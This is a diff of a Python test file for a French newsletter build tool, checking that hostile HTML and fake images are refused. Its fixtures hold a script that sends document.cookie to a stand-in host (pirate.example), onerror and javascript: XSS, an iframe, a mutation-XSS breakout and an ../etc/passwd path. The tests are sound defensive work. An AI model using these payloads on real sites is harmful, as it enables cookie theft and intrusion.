@@ -111,11 +111,11 @@ def test_a_build_folder_that_links_out_is_not_written_through(tmp_path):
 
 HOSTILE = (
     NEWS.replace("    Rendez-vous à Montreuil pour les vœux du réseau.\n", "")
-    + "    Rendez-vous à Montreuil.\n"                                      # line 8
+    + "    Rendez-vous à Montreuil.\n"  # line 8
     + "\n"
-    + '    <script>fetch("https://pirate.example/?c=" + document.cookie)</script>\n'   # line 10
+    + '    <script>fetch("https://pirate.example/?c=" + document.cookie)</script>\n'  # line 10
     + "\n"
-    + '    <img src="x" onerror="alert(1)"> [Programme](javascript:alert(2))\n'      # line 12
+    + '    <img src="x" onerror="alert(1)"> [Programme](javascript:alert(2))\n'  # line 12
 )
 HOSTILE_EDITORIAL = 'Bonne année !\n\n<iframe src="https://pirate.example/"></iframe>\n'
 COSMETIC = NEWS + '\n    <p style="position:fixed;top:0">Bandeau</p> <font color="red">rouge</font>\n'  # line 10
@@ -130,8 +130,10 @@ def test_script_event_handlers_and_javascript_links_are_refused_everywhere(tmp_p
 
     assert_refused(run)
     assert "issues/2027-01/voeux.md:10: HTML refusé : la balise <script>." in run.err
-    assert "issues/2027-01/voeux.md:12: HTML refusé : l'attribut « onerror » (du code lancé par le navigateur), " \
-           "l'adresse « javascript:alert(2) »" in run.err
+    assert (
+        "issues/2027-01/voeux.md:12: HTML refusé : l'attribut « onerror » (du code lancé par le navigateur), "
+        "l'adresse « javascript:alert(2) »" in run.err
+    )
     assert "issues/2027-01/_edito.md:3: HTML refusé : la balise <iframe>." in run.err
     assert not (root / "build").exists() and not (root / "site").exists()
 
@@ -171,7 +173,7 @@ def test_a_body_image_is_checked_copied_and_shown_on_the_web(tmp_path):
 
 
 def test_a_body_image_without_alt_text_or_file_fails_strict_checks(tmp_path):
-    item = NEWS + "\n    ![](images/stand.png)\n\n    ![Absente](images/absente.png)\n"   # lines 10 and 12
+    item = NEWS + "\n    ![](images/stand.png)\n\n    ![Absente](images/absente.png)\n"  # lines 10 and 12
     root = make_folder(tmp_path, {**ITEMS, "voeux.md": item, "images/stand.png": PNG})
 
     run = run_cli(root, "check", SLUG, "--strict")
@@ -199,7 +201,7 @@ def test_articles_whose_names_differ_only_by_accents_get_distinct_anchors(tmp_pa
 
 def test_a_list_nested_300_deep_is_a_clear_error_not_an_internal_one(tmp_path):
     deep = "\n".join("    " * level + "- niveau" for level in range(300))
-    item = textwrap.dedent(NEWS) + "\n" + deep + "\n"   # level 0 on line 10
+    item = textwrap.dedent(NEWS) + "\n" + deep + "\n"  # level 0 on line 10
     root = make_folder(tmp_path, {**ITEMS, "voeux.md": item.encode()})
 
     run = run_cli(root, "build", SLUG)
@@ -213,7 +215,7 @@ def test_a_list_nested_300_deep_is_a_clear_error_not_an_internal_one(tmp_path):
 
 
 def test_control_characters_in_a_body_are_dropped_with_a_warning(tmp_path):
-    root = make_folder(tmp_path, {**ITEMS, "voeux.md": NEWS + "\n    Texte\x1b[0m collé.\n"})   # line 10
+    root = make_folder(tmp_path, {**ITEMS, "voeux.md": NEWS + "\n    Texte\x1b[0m collé.\n"})  # line 10
 
     strict = run_cli(root, "check", SLUG, "--strict")
     built = run_cli(root, "build", SLUG)
@@ -221,3 +223,49 @@ def test_control_characters_in_a_body_are_dropped_with_a_warning(tmp_path):
     assert strict.code == 1
     assert "issues/2027-01/voeux.md:10: avertissement : caractère invisible U+001B supprimé" in strict.output
     assert built.code == 0 and "\x1b" not in (root / "build" / SLUG / "email.html").read_text()
+
+
+@pytest.mark.parametrize("element", ["noscript", "xmp", "textarea", "title", "noembed"])
+@pytest.mark.parametrize("src", ["https://tracker.example/p.gif", "../../../../etc/passwd"])
+def test_an_image_hidden_in_a_raw_text_element_is_checked_as_nh3_outputs_it(tmp_path, element, src):
+    body = f'Début.\n\n<{element}><p title="</{element}><img src={src}>"></{element}>\n'
+    root = make_folder(
+        tmp_path,
+        {
+            **ITEMS,
+            "voeux.md": NEWS.replace(
+                "    Rendez-vous à Montreuil pour les vœux du réseau.\n", textwrap.indent(body, "    ")
+            ),
+        },
+    )
+
+    run = run_cli(root, "build", SLUG)
+
+    assert "Traceback" not in run.output and run.code == 1, run.output
+    assert f"issues/{SLUG}/voeux.md:" in run.err and "l'image" in run.err
+    assert not (root / "build").exists()
+
+
+@pytest.mark.parametrize(
+    ("content", "phrase"),
+    [
+        (b"Ceci est un texte.\n", "n'est pas une image"),
+        (b"RIFF\0\0\0\0WEBPVP8 ", "WebP"),
+    ],
+)
+def test_a_file_named_like_an_image_that_is_none_is_refused(tmp_path, content, phrase):
+    root = make_folder(
+        tmp_path,
+        {
+            **ITEMS,
+            "images/fake.png": content,
+            "voeux.md": NEWS.replace(
+                "---\n    Rendez", "image: images/fake.png\n    image_alt: Le stand\n    ---\n    Rendez"
+            ),
+        },
+    )
+
+    run = run_cli(root, "check", SLUG)
+
+    assert "Traceback" not in run.output and run.code == 1, run.output
+    assert f"issues/{SLUG}/voeux.md:7: " in run.err and phrase in run.err, run.err
